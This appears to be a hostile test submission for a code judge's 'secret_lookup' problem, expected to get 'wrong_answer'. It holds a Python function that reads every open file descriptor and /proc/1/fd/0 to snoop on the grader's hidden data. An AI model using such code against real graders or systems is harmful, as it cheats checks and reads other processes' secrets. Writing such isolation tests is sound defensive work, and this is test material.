# problem: secret_lookup
# verdict: wrong_answer
# attack: reads its stdin, every open descriptor, /proc/self/fd targets and /proc/1/fd/0 for frames that are not its own
# max-seconds: 10
import os


def lookup(key):
    found = []
    for fd in range(0, 64):
        if fd in (1, 2):
            continue
        try:
            os.set_blocking(fd, False)
            data = os.read(fd, 1 << 20)
            if data:
                found.append(f"{fd}:{data[:200]!r}")
        except OSError:
            pass
    for path in ("/proc/1/fd/0", "/dev/stdin", "/proc/self/fd/0"):
        try:
            with open(path, "rb", 0) as handle:
                found.append(f"{path}:{handle.read(200)!r}")
        except OSError:
            pass
    print("stdin and fds:", found)
    return ";".join(found) or "nothing"
